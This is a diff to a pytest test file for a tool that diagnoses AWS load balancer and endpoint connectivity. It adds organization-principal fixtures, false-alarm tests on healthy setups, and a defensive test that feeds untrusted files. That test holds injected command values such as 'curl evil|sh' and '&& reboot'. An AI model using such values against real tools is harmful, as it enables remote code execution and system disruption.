@@ -249,6 +249,12 @@ def allowed_role(data: Data) -> None:
     rows(data, "permissions").append({"Principal": f"arn:aws:iam::{OTHER}:role/ci"})
 
 
+def allowed_organization(data: Data) -> None:
+    """The service allows a part of an organization, whose accounts plab does not know."""
+    row = {"Principal": "arn:aws:organizations::1:ou/o-1/ou-2", "ServiceId": one(data, "services")["ServiceId"]}
+    rows(data, "permissions").append(row)
+
+
 def offers_ipv4(data: Data) -> None:
     """The service offers IPv4 only."""
     one(data, "services")["SupportedIpAddressTypes"] = ["ipv4"]
@@ -334,14 +340,14 @@ EVIDENCE = [
     Case("tls-name", saw("tls-name")),
     Case("enabling-private-dns-broke-others", saw("all-stopped-at-once")),
     Case("balancer-group-enforced", groups_of_balancer),
-    Case("balancer-egress-closed", closed_out),
+    Case("balancer-egress-closed", both(closed_out, health("unhealthy", "Target.FailedHealthChecks"))),
     Case("listener-protocol", put("listeners", Protocol="UDP")),
     Case("cross-region-without-cross-zone", cross_region),
     Case("target-unhealthy", health("unhealthy", "Target.FailedHealthChecks")),
     Case("server-on-localhost", both(saw("localhost"), health("unhealthy", "Target.FailedHealthChecks"))),
     Case("fail-open", both(health("unhealthy", "Target.FailedHealthChecks"), saw("answers"))),
     Case("proxy-protocol-mismatch", attribute("target_groups", "proxy_protocol_v2.enabled", "true")),
-    Case("provider-acl", closed_acl("balancers")),
+    Case("provider-acl", both(closed_acl("balancers"), health("unhealthy", "Target.FailedHealthChecks"))),
     Case("peered-target-by-instance", in_elsewhere),
     Case("hairpin", saw("own-target")),
     Case("balancer-not-active", put("balancers", State={"Code": "provisioning"})),
@@ -377,6 +383,7 @@ def saved(healthy: list[str], at_cloud: Cloud, run: Run, tmp_path: Path) -> Data
         assert run("why", "--save", "healthy.json").code == 0
         healthy.append((tmp_path / "healthy.json").read_text())
     data: Data = json.loads(healthy[0])
+    data["at"] = "2999-01-01T00:00:00Z"  # the endpoint is no longer new
     return data
 
 
@@ -416,3 +423,47 @@ def test_the_table() -> None:
         assert cause.cure.endswith(".")
         assert cause.looks
         assert cause.console
+
+
+HEALTHY: dict[str, Callable[[Data], object]] = {  # what real AWS shows of setups that work
+    "another listener for UDP": lambda data: rows(data, "listeners").append(
+        dict(one(data, "listeners")) | {"ListenerArn": "arn:udp", "Port": 514, "Protocol": "UDP"}
+    ),
+    "a target that leaves while another one is well": lambda data: rows(data, "targets").append(
+        dict(one(data, "targets")) | {"Target": {"Id": "i-old", "Port": 80}, "TargetHealth": {"State": "draining"}}
+    ),
+    "an organization may ask": both(from_account, no_endpoint, allowed_organization),
+    "a strict ACL beside a healthy target": closed_acl("balancers"),
+    "a balancer that keeps to its zones, and a target group that does not": both(
+        attribute("balancers", "load_balancing.cross_zone.enabled", "false"),
+        attribute("target_groups", "load_balancing.cross_zone.enabled", "true"),
+    ),
+}
+
+
+@pytest.mark.parametrize("name", HEALTHY)
+def test_no_false_alarm(saved: Data, run: Run, tmp_path: Path, name: str) -> None:
+    """A setup that works has no proved cause that stops packets."""
+    HEALTHY[name](saved)
+    (tmp_path / "well.json").write_text(json.dumps(saved))
+    [path] = run("why", "acme", "--from", "well.json", "--json").json[0]["paths"][:1]
+    assert path["code"] is None or path["stops"] == "nothing", path
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        put("services", ServiceId="vpce-svc-0; curl evil|sh"),
+        lambda data: data["requests"][0].update(region="us-east-1 && reboot"),
+        lambda data: data.update(schema=2),
+        lambda data: data["halves"].append(1),
+        lambda data: data.pop("requests"),
+    ],
+)
+def test_a_file_of_a_stranger_is_data(saved: Data, run: Run, tmp_path: Path, change: Callable[[Data], object]) -> None:
+    """A file whose ids are commands, or that is no evidence: exit 2, and no command of it is printed."""
+    change(saved)
+    (tmp_path / "theirs.json").write_text(json.dumps(saved))
+    ran = run("why", "acme", "--from", "theirs.json")
+    assert ran.code == 2
+    assert ran.out == ""
